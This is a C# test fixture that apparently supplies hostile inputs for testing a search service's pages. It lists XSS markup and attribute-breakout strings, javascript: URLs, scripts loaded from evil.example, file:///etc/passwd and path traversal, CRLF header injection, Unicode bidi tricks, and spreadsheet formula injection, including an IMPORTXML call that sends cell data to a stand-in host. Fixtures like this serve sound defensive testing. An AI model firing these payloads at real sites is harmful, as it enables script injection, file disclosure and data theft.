using System.Globalization;

namespace Search.Service.Tests.Pages;

/// <summary>Texts that try to become something else: markup, attributes, addresses, formulas, or a broken page. Each calls <c>hack()</c> if it can.</summary>
public static class HostilePayloads
{
    private static readonly string[] Contexts = ["{0}", "\">{0}", "'>{0}", "--></title></textarea></style></script>{0}", "</mark></a></p>{0}"];

    private static readonly string[] Markup =
    [
        "<script>hack()</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<img src=x onerror=hack()>", "<svg onload=hack()>", "<svg><script>hack()</script></svg>",
        "<iframe srcdoc='<script>parent.hack()</script>'></iframe>", "<body onload=hack()>", "<a href=javascript:hack()>x</a>", "<details open ontoggle=hack()>",
        "<math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=hack() src>\">", "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:hack()'>",
        "<form action=javascript:hack()><input type=submit autofocus onfocus=hack()></form>", "<object data=javascript:hack()></object>", "<embed src=javascript:hack()>",
        "<noscript><p title=\"</noscript><img src=x onerror=hack()>\">", "<template><script>hack()</script></template>", "<mark onclick=hack()>x</mark>",
        "&lt;script&gt;hack()&lt;/script&gt;", "&#60;script&#62;hack()&#60;/script&#62;", "<plaintext>", "<!--", "<![CDATA[<script>hack()</script>]]>", "<?xml version='1.0'?>",
    ];

    private static readonly string[] Attributes =
    [
        "\" onmouseover=\"hack()", "' onmouseover='hack()", "\" autofocus onfocus=\"hack()\" x=\"", "\" style=\"position:fixed;inset:0;background:red", "` onclick=`hack()`",
        "\" accesskey=\"x\" onclick=\"hack()", "\"/><input name=\"q\" value=\"", "\" id=\"main", "\" checked disabled formaction=\"javascript:hack()", "\\\" onload=hack() \\",
    ];

    private static readonly string[] Addresses =
    [
        "javascript:hack()", "JaVaScRiPt:hack()", "java\tscript:hack()", "java\nscript:hack()", "\u0001javascript:hack()", "javascript&colon;hack()", "data:text/html,<script>hack()</script>",
        "vbscript:hack()", "//evil.example/", "\\\\evil.example\\", "https://evil.example/\"onclick=\"hack()", "http://a@evil.example:99999/", "file:///etc/passwd", "../../../../etc/passwd",
        "%00%0d%0aSet-Cookie:%20x=1", "\r\nSet-Cookie: x=1\r\n\r\n<script>hack()</script>",
    ];

    private static readonly string[] Unicode =
    [
        "＜script＞hack()＜/script＞", "\u200Bzero\u200Cwidth\u200D\uFEFF", "line\u2028and\u2029paragraph", "Z" + string.Concat(Enumerable.Repeat("\u0300\u0316\u0489", 80)),
        "\uFDFD\uFDFD\uFDFD", "\uFFFE\uFFFF\uFDD0", "аdmіn (Cyrillic)", "\U0001F468\u200D\U0001F469\u200D\U0001F467\U000E0041", "İıſKÅ ﬁ", "\u00AD\u034F\u180E",
        "\u202Egnp.exe", "\u202Dleft\u202C", "\u2066isolate", "\u2067\u2067\u2067unclosed", "\u2069\u2069closed", "שלום \u202Eעולם", "مرحبا بالعالم <b>", "\u061Cmark", "\u200Fright\u200E",
    ];

    private static readonly string[] Formulas =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "＝1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")",
        "\";=1+1;\"", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "%=1", "0x80,=1+1",
    ];

    private static readonly string[] Long =
    [
        new('x', 20_000), new('<', 5_000), new('\u00E9', 8_000), string.Concat(Enumerable.Repeat("word ", 4_000)), new string('\n', 500) + "x", new('W', 300), new('"', 3_000), new('(', 2_000),
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. Contexts.SelectMany(context => Markup.Select(markup => string.Format(CultureInfo.InvariantCulture, context, markup))),
        .. Attributes, .. Addresses, .. Unicode, .. Formulas, .. Long,
        .. Enumerable.Range(0, 32).Append(0x7F).Append(0x85).Append(0x9B).Select(control => $"a{(char)control}<b>{(char)control}"),
    ];

    /// <summary>A few of every kind.</summary>
    public static IReadOnlyList<string> Sample { get; } =
    [
        .. Markup[..6], string.Format(CultureInfo.InvariantCulture, Contexts[3], Markup[2]), .. Attributes[..4], .. Addresses[..5], Unicode[3], Unicode[4], Unicode[10], Unicode[13], Unicode[16],
        Formulas[0], Long[0], Long[1], Long[5],
    ];
}
